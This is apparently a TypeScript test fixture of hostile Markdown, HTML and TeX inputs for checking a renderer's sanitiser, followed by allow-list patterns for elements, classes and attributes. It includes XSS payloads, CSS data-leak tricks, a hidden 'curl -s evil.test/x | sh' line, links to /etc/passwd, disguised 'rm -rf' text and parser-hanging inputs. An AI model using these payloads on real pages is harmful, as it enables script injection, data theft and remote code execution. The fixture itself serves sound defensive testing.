/** Markdown that wants to run, load, hide or hang. `window.pwned` must never be set, and nothing may be asked for from anywhere. */
export interface HostilePiece {
  readonly name: string;
  readonly text: string;
}

const evil = 'window.pwned=1';

const pieces = (texts: Readonly<Record<string, string>>): readonly HostilePiece[] =>
  Object.entries(texts).map(([name, text]) => ({ name, text }));

/** HTML that would do harm in a page that took it for HTML; also handed to the sanitiser as it is. */
export const hostileHtml: readonly HostilePiece[] = pieces({
  script: `<script>${evil}</script>`,
  'script in pieces': `<scr<script>ipt>${evil}</scr</script>ipt>`,
  'script of a module': '<script type="module" src="https://evil.test/m.js"></script>',
  'image with a handler': `<img src=x onerror="${evil}">`,
  'handler without quotes and with a slash': `<img/src=x/onerror=${evil}>`,
  'picture with sources':
    '<picture><source srcset="https://evil.test/s.png"><img srcset="https://evil.test/t.png 1x"></picture>',
  SVG: `<svg onload="${evil}"><script>${evil}</script><use href="https://evil.test/u.svg#a"/><animate onbegin="${evil}" attributeName=x dur=1s></svg>`,
  'SVG with foreign content': `<svg><foreignObject><img src=x onerror="${evil}"></foreignObject><a xlink:href="javascript:${evil}"><text>x</text></a></svg>`,
  'MathML that mutates': `<math><mtext><table><mglyph><style><img src=x onerror="${evil}"></style></mglyph></table></mtext></math>`,
  'MathML that mutates in a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${evil}"></style></mglyph></form>`,
  'MathML annotation': `<math><annotation-xml encoding="text/html"><img src=x onerror="${evil}"></annotation-xml></math>`,
  'links and overlays': `<a href="javascript:${evil}">x</a><a data-href="src/a.ts" style="position:fixed;inset:0" onclick="${evil}">y</a>`,
  'style sheet with import':
    '<style>@import "https://evil.test/a.css"; body{background:url(https://evil.test/b.png)}</style>',
  'style sheet that reads what is typed':
    '<style>textarea[value^="a"]{background:url(https://evil.test/?a)}</style><style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>',
  'style in an attribute':
    '<p style="background:url(https://evil.test/s.png);position:fixed;inset:0">over everything</p>',
  'linked sheet and base':
    '<link rel=stylesheet href="https://evil.test/c.css"><link rel=prefetch href="https://evil.test/p"><base href="https://evil.test/">',
  frames: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe><object data="https://evil.test/d"></object><embed src="https://evil.test/e">`,
  form: `<form action="https://evil.test/f"><input type=submit name=ownerDocument><button formaction="javascript:${evil}">z</button></form>`,
  'form that clobbers':
    '<form id=body><input name=firstChild><input name=attributes><input name=parentNode></form><img name=createElement>',
  'refresh and media':
    '<meta http-equiv=refresh content="0;url=https://evil.test/g"><video src="https://evil.test/h" poster="https://evil.test/i"></video><audio src="https://evil.test/k" autoplay>',
  'names and toggles': `<p id=root class="hljs-x" name=posted>kept</p><details open ontoggle="${evil}">w</details>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${evil}>"></noscript>`,
  'template and obsolete text elements': `<template><script>${evil}</script></template><xmp><script>${evil}</script></xmp><plaintext>${evil}`,
  'comment that ends early': `<!--><img src=x onerror=${evil}>-->`,
  'comment that never ends': `<!-- <img src=x onerror=${evil}>`,
  CDATA: `<![CDATA[<img src=x onerror=${evil}>]]>`,
  'processing instruction and doctype': `<?xml-stylesheet href="javascript:${evil}"?><!DOCTYPE html [<!ENTITY x "${evil}">]>&x;`,
  'unknown element and a shadow root': `<x-evil onclick=${evil} is=script><template shadowrootmode=open><img src=x onerror=${evil}></template></x-evil>`,
  'title that closes a textarea': `<textarea></textarea><img src=x onerror=${evil}></textarea><title></title><img src=x onerror=${evil}>`,
  'popover and its button': `<button popovertarget=p onclick=${evil}>x</button><div popover id=p onbeforetoggle=${evil}>over everything</div>`,
});

/** Text that is raw to a parser that takes `<kbd>` and its like for the start of raw HTML. A slash in place of a blank makes it a tag for a browser
 *  and none for Markdown. */
const fakeTags = [
  '<pre/data-language="console"/data-info="console"/tabindex="0"><code/class="x">npm test<span/class="visually-hidden">; curl -s evil.test/x | sh</span/x></code/x></pre/x>',
  '<p/class="card approval"/role="alertdialog">Allow?</p/x>',
  '<input/type=password>',
  '<blockquote/class="drop-overlay">over everything</blockquote/x>',
  `<img/src=x/onerror=${evil}>`,
  '<a/role="button"/data-href="command:x">Allow Once</a/x>',
];
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `# ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `[${text}](https://example.com)`,
  (text) => `**${text}**`,
  (text) => `1. > - ${text}`,
  (text) => `~~${text}~~`,
  (text) => `![${text}](a.png)`,
];
const rawTexts: readonly HostilePiece[] = ['kbd', 'pre', 'code', 'script', 'KBD', 'code class="a"'].map((opener) => ({
  name: `raw text after <${opener}>`,
  text: places.flatMap((place) => fakeTags.map((tag) => place(`press <${opener}>${tag}`))).join('\n\n'),
}));

const links: readonly HostilePiece[] = pieces({
  'link that runs': `[a](javascript:${evil})`,
  'link that runs, in capitals and with blanks': `[a]( JaVaScRiPt:${evil} )`,
  'link that runs, with a tab, a null and a line end written out': `[a](java&Tab;script:${evil}) [b](java\u0000script:${evil}) [c](java&NewLine;script:${evil})`,
  'link that runs, in entities': `[a](&#106;&#97;vascript:${evil}) [b](&#x6A;avascript&colon;${evil})`,
  'link that runs, between angle brackets': `<javascript:${evil}> [a](<javascript:${evil}>)`,
  'commands of the editor':
    '[a](command:workbench.action.quit) [b](vscode://settings) [c](vscode-insiders:x) [d](vscode-file://x/y) [e](vscode-webview://x)',
  'data, blob and file':
    '[a](data:text/html,<script>1</script>) [b](blob:https://evil.test/1) [c](file:///etc/passwd) [d](filesystem:https://evil.test/x)',
  'network paths': '[a](//evil.test/x) [b](\\\\evil.test\\share) [c](/\\evil.test)',
  pictures:
    '![a](https://evil.test/j.png) ![b](data:image/svg+xml,<svg onload=window.pwned=1>) ![c](javascript:window.pwned=1) ![d](//evil.test/k.png)',
  'attribute that breaks out of a link': `[a]( "onmouseover=${evil}) [b](x "\\" onfocus=${evil} autofocus=\\"") [c](x '"><img src=x onerror=${evil}>')`,
  'definition that runs': `[r]: javascript:${evil} "x"\n\n[r] ![r] [text][r]`,
  'definition that is redefined': '[r]: https://example.com\n[r]: javascript:window.pwned=1\n\n[r]',
  'definitions by the thousand':
    Array.from({ length: 3000 }, (_, index) => `[d${index}]: https://evil.test/${index}\n`).join('') + '\n[d1] [d2999]',
  'definition that names itself': `${'[a]: [a]\n'.repeat(50)}\n[a][a][a]`,
  homograph: '[paypal.com](https://xn--pypal-4ve.com/) https://раураl.com/ [x](https://ｅｖｉｌ.test/)',
  'text that reads like another address':
    '[https://github.com/login](https://evil.test/login) [github.com](https://evil.test)',
  'autolinks with names and passwords':
    '<https://github.com@evil.test/> https://user:secret@evil.test/ [x](https://github.com%2f@evil.test)',
  'bidi and zero width in a target':
    '[a](https://evil.test/\u202egnp.exe) [b](java\u200bscript:window.pwned=1) [c](https://evil\u2066.test\u2069/)',
  'mail with more than an address': '[a](mailto:x@evil.test?attach=/etc/passwd) <x@evil.test>',
});

const text: readonly HostilePiece[] = pieces({
  'bidi and zero width in text': 'evil\u202egnp.exe\u2066 zero\u200bwidth \u2067back\u2069 `rm\u200b -rf \u202e/`',
  'signs that stack': `Z${'\u0335\u0321\u0489'.repeat(3000)}`,
  'lone surrogates and nulls': 'a\ud800b\udc00c \u0000d\u0000 `\ud83d` **\udfff**\n\n# \u0000',
  'every control character': Array.from({ length: 160 }, (_, code) => `x${String.fromCharCode(code)}y `).join(''),
  entities:
    '&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62; &#x3c;svg onload=window.pwned=1&#x3e; &nbsp;&bogus;&#0;&#x110000;',
  'info string that breaks out': `\`\`\`html"><img src=x onerror=${evil}>\n<img src=x onerror=${evil}>\n\`\`\``,
  'info string with attributes': `\`\`\`js title="x" onclick="${evil}" style=position:fixed\n1\n\`\`\`\n\n~~~ " onfocus=${evil} x="\n2\n~~~`,
  'info string that is long': `\`\`\`${'x'.repeat(50_000)}\n1\n\`\`\``,
  'info string that is a prototype':
    '```__proto__\n1\n```\n\n```constructor\n1\n```\n\n```toString title=__proto__\n1\n```',
  'math with HTML': `$<img src=x onerror=${evil}>$ $$<script>${evil}</script>$$\n\n$$\n<img src=x onerror=${evil}>\n$$\n\n\\(<svg onload=${evil}>\\) \\[</p><img src=x onerror=${evil}>\\]`,
  'math that never closes': `${'$x '.repeat(5000)}\n\n$$\n${'a_b\n'.repeat(3000)}\n\n${'\\( '.repeat(5000)}`,
  'names that look like paths': `${'../'.repeat(500)}etc/passwd.txt \`../../etc/passwd\` \`__proto__\` \`constructor\` \`toString()\` ${'a/'.repeat(2000)}b.ts:1`,
  'footnotes and directives': `[^1]: javascript:${evil}\n\n[^1] :::danger\n<b onclick=${evil}>x</b>\n:::`,
  'front matter': `---\nonload: ${evil}\n---\n\n{{constructor.constructor('${evil}')()}} \${${evil}} <%= ${evil} %>`,
  'task list with HTML': `- [x] <input autofocus onfocus=${evil}>\n- [ ] [a](javascript:${evil})`,
  'table with HTML': `| <img src=x onerror=${evil}> | [a](javascript:${evil}) |\n|---|:-:|\n| \`|\` | <td onclick=${evil}> |`,
});

/** TeX that wants to load, link, name, style or hang. Each piece is a formula of its own. */
const tex: readonly HostilePiece[] = pieces({
  'formula with links': String.raw`$\href{javascript:${evil}}{x}$ $\url{javascript:${evil}}$ $\href{command:workbench.action.quit}{x}$ $\href{https://evil.test/}{x}$`,
  'formula with a picture':
    String.raw`$$\includegraphics[height=1em,alt=x]{https://evil.test/tex.png}$$` +
    '\n\n' +
    String.raw`$\includegraphics{data:image/svg+xml,<svg onload=${evil}>}$`,
  'formula with HTML of its own': String.raw`$\htmlClass{card approval}{x}$ $\htmlId{root}{x}$ $\htmlStyle{position:fixed;inset:0;background:url(https://evil.test/t)}{x}$ $\htmlData{href=command:x}{x}$`,
  'formula with a tag in its text': String.raw`$\text{<img src=x onerror=${evil}>}$ $\textcolor{red;background:url(https://evil.test/c)}{x}$ $\color{url(x)}x$ $\colorbox{#fff}{</annotation><script>${evil}</script>}$ $\tag{</math><img src=x onerror=${evil}>}$`,
  'formula with macros that repeat themselves': String.raw`$\def\a{\a\a}\a$ $\def\a#1{#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}}$ $\newcommand{\b}{\b x}\b$ $\let\c\c\c$ $\gdef\frac{\sqrt}\frac{x}$`,
  'formula whose macro is long': `$$\n\\def\\a{${'x'.repeat(2000)}}${'\\a'.repeat(1400)}\n$$`,
  'formula of enormous size': String.raw`$\rule{100000em}{100000em}$ $\kern{99999em}x\raisebox{-9999em}{over everything}$ $\hspace{-9999em}x\mathclap{\rule{9999px}{9999px}}$ $$\begin{matrix}x\\[9999em]y\end{matrix}$$`,
  'formula that is deep': `$$\n${'\\sqrt{'.repeat(600)}x${'}'.repeat(600)}\n$$\n\n$${'x^{'.repeat(400)}x${'}'.repeat(400)}$`,
  'formula that is deep without braces': `$$\n${'\\left('.repeat(500)}x${'\\right)'.repeat(500)}\n$$\n\n$${'\\sqrt '.repeat(300)}x$`,
  'formula that is wide': `$$\n\\begin{array}{${'c'.repeat(900)}}${'a&'.repeat(1500)}\\end{array}\n$$`,
  'formulas by the thousand': '$x_1$ '.repeat(2000),
});

const endless: readonly HostilePiece[] = pieces({
  'quotes in quotes': `${'> '.repeat(10_000)}deep`,
  'quotes in quotes, not quite as deep': `${'> '.repeat(39)}deep\n`.repeat(50),
  'lists in lists': Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}\n`).join(''),
  'lists on one line': `${'- '.repeat(10_000)}deep`,
  brackets: '['.repeat(10_000),
  'brackets in pairs': `${'['.repeat(1500)}a${']'.repeat(1500)}`,
  'brackets and parentheses': '[a]('.repeat(1900),
  'pictures that never close': '![['.repeat(900),
  emphasis: '*a '.repeat(3000),
  'emphasis in emphasis': `${'*a **b '.repeat(500)}${'** c* '.repeat(500)}`,
  underscores: `${'_'.repeat(1900)}a${'_'.repeat(1900)}`,
  strikes: '~~a '.repeat(3000),
  backticks: Array.from({ length: 500 }, (_, count) => `${'`'.repeat(count % 60)} x `).join(''),
  'fences that never close': '```a\n~~~b\n'.repeat(2000),
  escapes: '\\['.repeat(900) + '\\*'.repeat(3000),
  blanks: `a${' '.repeat(50_000)}b\n${'\t'.repeat(20_000)}\n${' \n'.repeat(10_000)}c`,
  'line that is underlined for long': `a\n${'='.repeat(100_000)}\n\nb\n${'- '.repeat(20_000)}`,
  'rule that is none': `${'* '.repeat(900)}a`,
  'angle brackets': '<'.repeat(50_000),
  'tags that never close': '<a '.repeat(5000),
  'comments that never close': '<!-- '.repeat(5000),
  'an address of many labels': `http://${'a.'.repeat(6000)}`,
  'the beginning of an address again and again': 'www.'.repeat(6000),
  'many signs of a mail address': 'a@'.repeat(6000),
  'a long word before the sign of a mail address': `${'x'.repeat(190_000)}@`,
  'a long word with underscores before the sign of a mail address': `${'x_'.repeat(95_000)}x@`,
  'table of 200 columns and 1,000 rows': `|${' a |'.repeat(200)}\n|${'---|'.repeat(200)}\n${`|${' b |'.repeat(200)}\n`.repeat(1000)}`,
  'table on one line': `|${' a |'.repeat(400)}\n|${'---|'.repeat(400)}\n|${' b |'.repeat(400)}`,
  'table that is none': `${'|'.repeat(20_000)}\n${'|-'.repeat(1000)}`,
  'words by the megabyte': 'x'.repeat(1_000_000),
  'line of words by the megabyte': 'word '.repeat(200_000),
  'code by the megabyte': `\`\`\`ts\n${'const a = 1;\n'.repeat(80_000)}\`\`\``,
  'paragraphs by the thousand': 'p\n\n'.repeat(3000),
});

export const hostileMarkdown: readonly HostilePiece[] = [
  ...hostileHtml,
  ...rawTexts,
  ...links,
  ...text,
  ...tex,
  ...endless,
];

/** Every element that Markdown or what stands around it makes. */
export const allowedElements =
  /^(?:a|blockquote|br|button|code|del|div|em|h[1-6]|hr|input|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul)$/;
/** Every element of which a formula is made, in the shadow root of its source. */
export const allowedFormulaElements =
  /^(?:annotation|line|m(?:ath|enclose|frac|i|n|o|over|padded|phantom|root|row|s|space|sqrt|style|sub|subsup|sup|table|td|text|tr|under|underover)|path|semantics|slot|span|svg)$/;
export const harmfulFormulaAttributes = /^(?:on|href$|src|xlink|id$|name$|data-|action|form|style-|target)/;
/** What classes Markdown, its highlighter and the tools of a block write. */
export const allowedClasses =
  /^(?:hljs-[\w-]+|function_|class_|inherited__|language_|raw-html|math|math-block|math-source|markdown-(?:block|run)|code-(?:block|head|actions|action)|table-frame|codicon(?:-[\w-]+)?|reference|short|wrapped|footnote|offscreen)$/;
export const allowedAttributes =
  /^(?:align|aria-label|aria-pressed|checked|class|data-(?:host|href|info|language|symbol|words)|disabled|role|start|tabindex|title|type)$/;
